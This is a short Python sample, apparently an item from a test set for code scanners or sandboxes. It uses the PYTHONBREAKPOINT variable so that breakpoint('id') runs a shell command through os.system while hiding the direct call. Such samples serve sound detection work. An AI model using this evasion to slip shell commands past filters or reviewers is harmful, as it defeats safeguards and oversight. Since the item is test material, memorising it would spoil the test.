# evasion: PYTHONBREAKPOINT makes breakpoint() call os.system
# grade: very hard; does: shell
import os
os.environ["PYTHONBREAKPOINT"] = "os.system"
breakpoint("id")
